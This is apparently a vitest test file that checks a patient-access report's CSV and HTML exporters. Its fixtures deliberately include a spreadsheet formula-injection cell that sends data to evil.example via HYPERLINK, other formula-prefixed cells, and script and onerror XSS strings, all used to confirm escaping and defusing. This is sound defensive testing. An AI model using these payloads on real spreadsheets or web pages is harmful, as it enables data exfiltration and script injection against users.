import { describe, expect, it } from 'vitest';
import { reportCsv, csvCell } from './csv.js';
import { escapeHtml, reportHtml } from './html.js';
import type { PatientAccessReport } from './patient-access.js';

const REPORT: PatientAccessReport = {
  patient: 'Patient/p-1',
  patientName: '<script>alert(1)</script> Ng',
  from: '2026-03-01T00:00:00.000Z',
  to: '2026-04-01T00:00:00.000Z',
  generatedAt: '2026-04-02T08:00:00.000Z',
  generatedBy: 'po-1',
  summary: { accesses: 2, explained: 1, users: 2, flagged: 1 },
  rows: [
    {
      time: '2026-03-02T10:00:00.000Z',
      accessId: 'ae-1',
      source: 'audit.ndjson',
      user: 'Practitioner/ben',
      userName: 'Ben Cole',
      role: 'doctor',
      department: 'Organization/med',
      action: 'read',
      resource: 'Observation/o-1',
      purpose: 'TREAT',
      explained: true,
      explanation: 'attending on Encounter/e1',
      explanationKind: 'encounter',
      alerts: [],
      risk: 0,
    },
    {
      time: '2026-03-03T22:15:00.000Z',
      accessId: 'export.csv:7',
      source: 'export.csv',
      user: '=HYPERLINK("http://evil.example/?"&A1,"x")',
      userName: '<img src=x onerror=alert(1)>',
      action: '+read',
      resource: '@SUM(1,2)',
      purpose: '-1, "quoted"\nline',
      explained: false,
      alerts: ['al-1', 'al-2'],
      risk: 80,
    },
  ],
};

/** Minimal RFC 4180 reader for the test: fields, quotes doubled, CRLF rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

describe('CSV', () => {
  it('writes a BOM, a header row and one CRLF row per access that a CSV reader gives back', () => {
    const text = reportCsv(REPORT);
    expect(text.startsWith('\uFEFFtime,patient,access_id,')).toBe(true);
    const rows = parseCsv(text.slice(1));
    expect(rows).toHaveLength(3);
    const head = rows[0]!;
    const col = (r: string[], name: string) => r[head.indexOf(name)];
    expect(col(rows[1]!, 'explanation')).toBe('attending on Encounter/e1');
    expect(col(rows[1]!, 'explained')).toBe('yes');
    expect(col(rows[2]!, 'explained')).toBe('no');
    expect(col(rows[2]!, 'alerts')).toBe('al-1 al-2');
    expect(col(rows[2]!, 'risk')).toBe('80');
    expect(col(rows[2]!, 'patient')).toBe('Patient/p-1');
    expect(reportCsv(REPORT, { bom: false }).startsWith('time,')).toBe(true);
  });

  it('defuses cells a spreadsheet would run as formulas', () => {
    const rows = parseCsv(reportCsv(REPORT, { bom: false }));
    const head = rows[0]!;
    const col = (name: string) => rows[2]![head.indexOf(name)];
    expect(col('user')).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"x")`);
    expect(col('action')).toBe("'+read");
    expect(col('resource')).toBe("'@SUM(1,2)");
    expect(col('purpose')).toBe(`'-1, "quoted"\nline`);
    expect(csvCell('\tcmd')).toBe("'\tcmd");
    expect(csvCell('\rcmd')).toBe(`"'\rcmd"`);
    expect(csvCell('Patient/1')).toBe('Patient/1');
  });
});

describe('HTML', () => {
  const html = reportHtml(REPORT);

  it('escapes every value taken from the data', () => {
    expect(escapeHtml(`<a href="x">'&'</a>`)).toBe('&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;');
    expect(html).not.toContain('<script>alert(1)</script>');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt; Ng');
    expect(html).not.toContain('<img');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('is self-contained: no scripts and nothing fetched from elsewhere', () => {
    expect(html).not.toMatch(/<script|<link|<img|<iframe|@import|url\(/i);
    expect(html).not.toMatch(/<[^>]*\s(src|href)=/i);
    expect(html.startsWith('<!doctype html>')).toBe(true);
    expect(html).toContain('@media print');
    expect(html).toContain('@page');
  });

  it('heads the page with patient, period, generation and counts', () => {
    expect(html).toContain('Patient/p-1');
    expect(html).toContain('2026-03-01 00:00:00Z to 2026-04-01 00:00:00Z');
    expect(html).toContain('2026-04-02T08:00:00.000Z by po-1');
    expect(html).toMatch(/<b>2<\/b>accesses/);
    expect(html).toMatch(/<b>1<\/b>unexplained/);
    expect(html).toMatch(/<b>1<\/b>flagged by alerts/);
  });

  it('highlights flagged rows and says "unexplained" and "flagged" in words', () => {
    const rows = html.split('<tr').slice(2);
    expect(rows[0]).not.toContain('class="flagged"');
    expect(rows[0]).toContain('attending on Encounter/e1');
    expect(rows[1]).toContain('class="flagged"');
    expect(rows[1]).toContain('Unexplained');
    expect(rows[1]).toContain('Flagged');
    expect(rows[1]).toContain('al-1, al-2');
  });

  it('lists the cited alerts with their reasons after the table, escaped', () => {
    const page = reportHtml(REPORT, {
      alerts: [
        {
          id: 'al-1',
          time: '2026-03-03T22:15:00.000Z',
          detector: 'ehr.family',
          category: 'ehr_privacy',
          severity: 'high',
          score: 80,
          title: 'Chart of a family member',
          reasons: ['<b>Ana</b> viewed the chart of a patient with the same surname'],
          entities: { user: 'Practitioner/ana', patient: 'Patient/p-1' },
          events: ['export.csv:7'],
          attack: ['T1078'],
        },
      ],
    });
    expect(page).toContain('<h2>Alerts cited (1)</h2>');
    expect(page).toContain('Chart of a family member');
    expect(page).toContain('ehr.family · high (score 80)');
    expect(page).toContain('<li>&lt;b&gt;Ana&lt;/b&gt; viewed the chart');
    expect(html).not.toContain('Alerts cited');
  });

  it('says so when nobody accessed the record', () => {
    const empty = reportHtml({
      ...REPORT,
      rows: [],
      summary: { accesses: 0, explained: 0, users: 0, flagged: 0 },
    });
    expect(empty).toContain('No recorded access to this patient in the period.');
    expect(empty).not.toContain('<table');
  });
});
